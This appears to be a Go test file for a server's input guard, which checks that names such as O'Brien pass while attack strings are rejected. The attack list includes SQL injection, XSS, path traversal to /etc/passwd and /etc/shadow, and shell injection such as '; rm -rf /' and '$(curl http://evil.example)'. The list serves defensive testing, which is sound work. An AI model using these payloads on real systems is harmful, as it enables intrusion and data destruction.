package server

import (
	"encoding/json"
	"io"
	"net/url"
	"strings"
	"testing"
	"testing/iotest"

	"reconexus/app/kit/fault"
)

// harmless is what people and programmes write.
func harmless() []string {
	return []string{
		"O'Brien", "A'ishatu", "please update", "Ada Obi", "N'Golo Kanté", "D'Arcy's", "it's 5' 3\" tall", "Tom & Jerry", "50% off -- really",
		"select the best union", "drop me a line; thanks", "delete from list", "insert into the slot", "Customer's SIM; drop table reservation",
		"a < b and c > d", "<3", "x or y = z", "order by phone", "can't or won't", "I'd like 'this' or 'that'", "Holder's NIN; see ticket #123",
		"https://example.com/hook?a=1&b=2", "https://hooks.example.ng:8443/reconexus", "*", "2026-11-20T10:00:00+01:00", "+2348031234567", "12345678901",
		"Ọláńrewájú", "Ɓala Ƙwairanga", "admin@example.ng", "reason (see above)", "a/b/c", "wait...", "e.g. the cat; the id", "SIM was replaced; customer called",
		"Mr. O'Neil & sons", "C:\\reports\\june.csv", "100%", "sh: quiet please", "R&D; curling club", "", "null", "\U0001F600", "line one\nline two", "mtn_inventory_2026-11-20.csv.gz",
	}
}

func attacks() []string {
	return []string{
		"' or 1=1--", "' OR '1'='1", "1; DROP TABLE users", "1 UNION SELECT password FROM users", "admin'--", "1' and sleep(5)#", "1 or 1=1", "') or ('a'='a",
		"'; DELETE FROM sims; --", "x' AND email IS NULL; --", "1;SELECT pg_sleep(10)", "'; exec xp_cmdshell('dir')--",
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,<b>x",
		"../../etc/passwd", "..\\..\\windows\\system32", "/etc/shadow", "%2e%2e/%2e%2e/", "a/../../b", "file\x00.csv",
		"; rm -rf /", "| cat /etc/hosts", "`whoami`", "$(curl http://evil.example)", "&& wget http://evil.example", "x\nbash -i", "; /bin/sh -c ls", "${jndi:ldap://evil.example/a}",
	}
}

func TestGuardTellsPeopleFromAttacks(t *testing.T) {
	f := newFence()
	for _, s := range harmless() {
		if f.hostile(s) {
			t.Errorf("%q is refused", s)
		}
	}
	for _, s := range attacks() {
		if !f.hostile(s) {
			t.Errorf("%q is let through", s)
		}
	}
}

func TestGuardedRequests(t *testing.T) {
	h := open(t, func(o *Options) { o.GeneralPerMinute = 0; o.AuthPerMinute = 0 })
	for _, s := range harmless() {
		body, _ := json.Marshal(map[string]any{"name": s})
		h.want(h.send("POST", api+"/silent", "admin", string(body)), 200)
		h.want(h.send("GET", api+"/things?q="+url.QueryEscape(s), "admin", ""), 200)
	}
	h.things.Store(0)
	for _, s := range attacks() {
		for _, v := range []any{map[string]any{"name": s}, map[string]any{"name": "a", "words": []string{"b", s}}, map[string]any{s: "a"}, s} {
			body, _ := json.Marshal(v)
			h.want(h.send("POST", api+"/silent", "admin", string(body)), 400, fault.Rejected)
			h.want(h.send("POST", api+"/silent", "admin", escapeAll(string(body))), 400, fault.Rejected)
		}
		h.want(h.send("GET", api+"/things?q="+url.QueryEscape(s), "admin", ""), 400, fault.Rejected)
	}
	if h.things.Load() != 0 {
		t.Errorf("%d attacks reached the handler", h.things.Load())
	}
	p := h.send("POST", api+"/silent", "admin", `{"name":"' or 1=1--"}`).problem(t)
	if len(p.Errors) != 1 || p.Errors[0].Field != "name" || strings.Contains(p.Detail, "1=1") {
		t.Errorf("the problem is %+v", p)
	}
	// A strong password is no attack, and uploads are not guarded.
	h.want(h.send("POST", api+"/auth/login", "", `{"email":"a@example.ng","password":"' or 1=1--<script>"}`), 401)
	h.want(h.send("POST", api+"/files", "admin", "name\n' or 1=1--\n", "Content-Type", "text/csv"), 202)
	// Strangers are told to sign in before anything is read.
	h.want(h.send("POST", api+"/silent", "", `{"name":"' or 1=1--"}`), 401, fault.Unauthenticated)
}

// escapeAll writes the text of each JSON string as \u escapes.
func escapeAll(body string) string {
	var out strings.Builder
	in := false
	for i := 0; i < len(body); i++ {
		c := body[i]
		switch {
		case c == '"':
			in = !in
			out.WriteByte(c)
		case c == '\\':
			out.WriteString(body[i : i+2])
			i++
		case in && c < 0x80:
			out.WriteString(`\u00` + string("0123456789abcdef"[c>>4]) + string("0123456789ABCDEF"[c&15]))
		default:
			out.WriteByte(c)
		}
	}
	return out.String()
}

// Class 10: no credentials in a URL, anywhere.
func TestClass10TokensInURLs(t *testing.T) {
	h := open(t, func(o *Options) { o.GeneralPerMinute = 0 })
	for _, path := range []string{api + "/things", api + "/none", "/ws/jobs", "/", "/docs", "/metrics", "/health"} {
		for _, name := range []string{"token", "access_token", "Token", "api_key", "apikey", "X-API-Key", "refresh_token", "password", "jwt", "%74oken"} {
			a := h.send("GET", path+"?"+name+"=admin", "", "")
			if a.StatusCode != 400 {
				t.Errorf("%s?%s= answers %d", path, name, a.StatusCode)
			}
		}
	}
	if h.asked.Load() != 0 {
		t.Error("credentials from a URL were looked at")
	}
}

func TestGuardReadsInAnyPieces(t *testing.T) {
	long := strings.Repeat("Musa and his friends went to the market. ", 20_000)
	for name, tc := range map[string]struct {
		body  string
		place string
	}{
		"clean":             {`{"a":"O'Brien","b":["x",{"c":"y"}],"d":1.5e3,"e":null}`, ""},
		"in an array":       {`{"words":["a","b","' or 1=1--"]}`, "words"},
		"deep":              {`[[[{"a":{"b":[{"c":"<script>alert(1)</script>"}]}}]]]`, "c"},
		"a name":            {`{"' or 1=1--":1}`, "body"},
		"the whole text":    {`"' or 1=1--"`, "body"},
		"escaped":           {`{"q":"\u0027 or 1=1--"}`, "q"},
		"slashes":           {`{"q":"..\/..\/etc"}`, "q"},
		"after a surrogate": {`{"q":"\ud83d\ude00","r":"' or 1=1--"}`, "r"},
		"in a long string":  {`{"q":"` + long + `; rm -rf / ` + long + `"}`, "q"},
		"a long clean one":  {`{"q":"` + long + `"}`, ""},
		"a password":        {`{"password":"' or 1=1--","new_password":"<script>","refresh_token":"' or 1=1--"}`, ""},
		"after a password":  {`{"password":"x","q":"' or 1=1--"}`, "q"},
		"beside a password": {`[{"password":"x"},"' or 1=1--"]`, "body"},
	} {
		for _, read := range []func(io.Reader) io.Reader{func(r io.Reader) io.Reader { return r }, iotest.OneByteReader, iotest.DataErrReader, iotest.HalfReader} {
			g := &guarded{body: io.NopCloser(read(strings.NewReader(tc.body))), scan: scanner{fence: newFence()}}
			got, err := io.ReadAll(g)
			f, refused := fault.In(err)
			switch {
			case tc.place == "" && (err != nil || string(got) != tc.body):
				t.Errorf("%s: %v", name, err)
			case tc.place != "" && (!refused || f.Kind != fault.Rejected || f.Fields[0].Field != tc.place):
				t.Errorf("%s: error %v, want one in %s", name, err, tc.place)
			}
		}
	}
}

// FuzzGuard: every string that encoding/json finds, the scanner finds too, however the
// text is cut in pieces.
func FuzzGuard(f *testing.F) {
	f.Add(`{"a":"\u0027 or 1=1--"}`, 3)
	f.Add(`["\ud83d\ude00","<script>"]`, 1)
	f.Add(`"\\\""`, 2)
	f.Fuzz(func(t *testing.T, body string, cut int) {
		var v any
		if json.Unmarshal([]byte(body), &v) != nil || len(body) > window {
			return
		}
		fence := newFence()
		bad := anyHostile(fence, v)
		s := scanner{fence: fence}
		cut = max(0, min(cut, len(body)))
		_, first := s.feed([]byte(body[:cut]))
		_, second := s.feed([]byte(body[cut:]))
		_, last := s.feed([]byte{','})
		if found := first || second || last; bad && !found {
			t.Errorf("%q is let through", body)
		}
	})
}

func anyHostile(f *fence, v any) bool {
	switch v := v.(type) {
	case string:
		return f.hostile(v)
	case []any:
		for _, item := range v {
			if anyHostile(f, item) {
				return true
			}
		}
	case map[string]any:
		for name, item := range v {
			if f.hostile(name) || (!secret(name) && anyHostile(f, item)) {
				return true
			}
		}
	}
	return false
}

func BenchmarkGuardBulk(b *testing.B) {
	row := `{"sim_serial":"8923401000000000001","msisdn":"08031234567","imsi":"621301234567890","operator_code":"MTN","previous_owner_nin":"12345678901","previous_owner_name":"Ada Obi","date_recycled":"2026-11-20"},`
	body := []byte(`{"sims":[` + strings.Repeat(row, 9_999) + strings.TrimSuffix(row, ",") + `]}`)
	f := newFence()
	b.SetBytes(int64(len(body)))
	b.ReportAllocs()
	for b.Loop() {
		s := scanner{fence: f}
		if _, bad := s.feed(body); bad {
			b.Fatal("refused")
		}
	}
}
